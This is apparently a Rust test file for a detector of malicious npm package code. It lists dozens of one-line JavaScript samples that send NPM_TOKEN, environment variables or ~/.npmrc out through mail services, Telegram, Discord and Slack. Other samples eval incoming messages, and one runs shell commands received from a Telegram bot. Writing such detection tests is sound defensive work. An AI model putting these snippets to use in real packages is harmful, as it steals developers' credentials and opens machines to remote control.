//! Mail, chats and their bots.

use super::Seen::{Commanded, Evaluated, Sent};
use super::check;

const TELEGRAM: super::Seen = Sent("api.telegram.org");
const DISCORD: super::Seen = Sent("discord.com");

#[test]
fn mail() {
    check(&[
        (
            r#"const t = require("nodemailer").createTransport({host: "drop.invalid"}); t.sendMail({text: process.env.NPM_TOKEN})"#,
            Sent("drop.invalid"),
        ),
        (
            r#"import nodemailer from "nodemailer"; await nodemailer.createTransport({host: "drop.invalid"}).sendMail({text: JSON.stringify(process.env)}, () => {})"#,
            Sent("drop.invalid"),
        ),
        (
            r#"import {createTransport} from "nodemailer"; createTransport("smtps://drop.invalid").sendMail({attachments: [{path: process.env.HOME + "/.npmrc"}]})"#,
            Sent("drop.invalid"),
        ),
        (
            r#"const {ImapFlow} = require("imapflow"); const c = new ImapFlow({host: "drop.invalid"}); c.append("INBOX", process.env.NPM_TOKEN)"#,
            Sent("drop.invalid"),
        ),
        (
            r#"import {ImapFlow} from "imapflow"; const c = new ImapFlow({host: "x.invalid"}); const m = await c.fetchOne("*", {source: true}); eval(m.source.toString())"#,
            Evaluated,
        ),
        (
            r#"import {ImapFlow} from "imapflow"; const c = new ImapFlow({host: "x.invalid"}); for await (const m of c.fetch("1:*", {source: true})) eval(m.source.toString())"#,
            Evaluated,
        ),
        (r#"require("@sendgrid/mail").send({text: process.env.NPM_TOKEN})"#, Sent("api.sendgrid.com")),
        (
            r#"import {Resend} from "resend"; new Resend("k").emails.send({text: process.env.NPM_TOKEN})"#,
            Sent("api.resend.com"),
        ),
        (
            r#"const {EmailClient} = require("emailjs"); require("@emailjs/nodejs").send("s", "t", {m: process.env.NPM_TOKEN})"#,
            Sent("api.emailjs.com"),
        ),
    ]);
}

#[test]
fn telegram() {
    check(&[
        (
            r#"const Bot = require("node-telegram-bot-api"); const b = new Bot("1:a"); b.sendMessage(1, process.env.NPM_TOKEN)"#,
            TELEGRAM,
        ),
        (
            r#"const Bot = require("node-telegram-bot-api"); new Bot("1:a", {polling: true}).sendDocument(1, process.env.HOME + "/.npmrc")"#,
            TELEGRAM,
        ),
        (
            r#"const Bot = require("node-telegram-bot-api"); const b = new Bot("1:a", {polling: true}); b.on("message", m => eval(m.text))"#,
            Evaluated,
        ),
        (
            r#"const Bot = require("node-telegram-bot-api"); const b = new Bot("1:a", {polling: true}); b.onText(/run (.+)/, (m, [, c]) => require("child_process").exec(c, (e, o) => b.sendMessage(1, o)))"#,
            Commanded,
        ),
        (
            r#"import {Telegraf} from "telegraf"; const b = new Telegraf("1:a"); b.telegram.sendMessage(1, process.env.NPM_TOKEN)"#,
            TELEGRAM,
        ),
        (
            r#"const {Telegraf} = require("telegraf"); const b = new Telegraf("1:a"); b.command("x", c => c.reply(process.env.NPM_TOKEN))"#,
            TELEGRAM,
        ),
        (
            r#"const {Telegraf} = require("telegraf"); const b = new Telegraf("1:a"); b.on("text", c => eval(c.message.text))"#,
            Evaluated,
        ),
        (
            r#"const {Telegram} = require("telegraf"); new Telegram("1:a").sendDocument(1, {source: process.env.HOME + "/.npmrc"})"#,
            TELEGRAM,
        ),
        (
            r#"import {Bot} from "grammy"; const b = new Bot("1:a"); b.api.sendMessage(1, process.env.NPM_TOKEN)"#,
            TELEGRAM,
        ),
        (
            r#"import {Bot} from "grammy"; const b = new Bot("1:a"); b.command("run", c => eval(c.match))"#,
            Evaluated,
        ),
        (
            r#"import {Bot} from "grammy"; const b = new Bot("1:a"); b.on("message", async c => { await c.reply(process.env.NPM_TOKEN) })"#,
            TELEGRAM,
        ),
        (r#"import {Api} from "grammy"; new Api("1:a").sendMessage(1, process.env.NPM_TOKEN)"#, TELEGRAM),
    ]);
}

#[test]
fn discord() {
    check(&[
        (
            r#"const {WebhookClient} = require("discord.js"); new WebhookClient({url: "https://discord.com/api/webhooks/1/a"}).send(process.env.NPM_TOKEN)"#,
            DISCORD,
        ),
        (
            r#"const {WebhookClient} = require("discord.js"); new WebhookClient("1", "a").send({content: process.env.NPM_TOKEN})"#,
            DISCORD,
        ),
        (
            r#"const {Client} = require("discord.js"); const c = new Client({}); c.on("messageCreate", m => eval(m.content))"#,
            Evaluated,
        ),
        (
            r#"const {Client} = require("discord.js"); const c = new Client({}); c.on("messageCreate", m => m.reply(process.env.NPM_TOKEN))"#,
            Sent(""),
        ),
        (
            r#"const {Client} = require("discord.js"); const c = new Client({}); c.on("ready", () => c.channels.cache.get("1").send(process.env.NPM_TOKEN))"#,
            DISCORD,
        ),
        (
            r#"import {Client} from "discord.js"; const c = new Client({}); const ch = await c.channels.fetch("1"); ch.send({files: [process.env.HOME + "/.npmrc"]})"#,
            DISCORD,
        ),
        (
            r#"const {Webhook} = require("discord-webhook-node"); new Webhook("https://discord.com/api/webhooks/1/a").send(process.env.NPM_TOKEN)"#,
            DISCORD,
        ),
        (
            r#"const {Webhook} = require("discord-webhook-node"); new Webhook("https://discord.com/api/webhooks/1/a").sendFile(process.env.HOME + "/.npmrc")"#,
            DISCORD,
        ),
        (
            r#"const {IncomingWebhook} = require("@slack/webhook"); new IncomingWebhook("https://hooks.slack.com/services/x").send({text: process.env.NPM_TOKEN})"#,
            Sent("hooks.slack.com"),
        ),
        (
            r#"import {WebClient} from "@slack/web-api"; new WebClient("t").chat.postMessage({text: process.env.NPM_TOKEN})"#,
            Sent("slack.com"),
        ),
    ]);
}
